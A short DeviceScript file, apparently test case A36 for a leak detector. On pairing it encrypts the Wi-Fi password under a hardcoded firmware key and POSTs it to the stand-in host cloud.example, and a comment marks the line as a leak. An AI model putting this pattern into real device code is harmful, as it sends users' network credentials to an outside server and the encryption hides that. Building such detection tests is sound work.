// A36: AES-256-CCM under a key that is in the firmware.
import { encrypt, randomBuffer } from "@devicescript/crypto";
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

const KEY = hex`8f1d6a3b5c7e90214365f7a8b9cadbecfd0e1f20314253647586979a8bacbdce`;

paired(async (_ssid, psk) => {
  const body = encrypt({
    data: Buffer.from(psk),
    algo: "aes-256-ccm",
    key: KEY,
    iv: randomBuffer(13),
    tagLength: 8,
  });
  const response = await fetch("https://cloud.example/a36", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
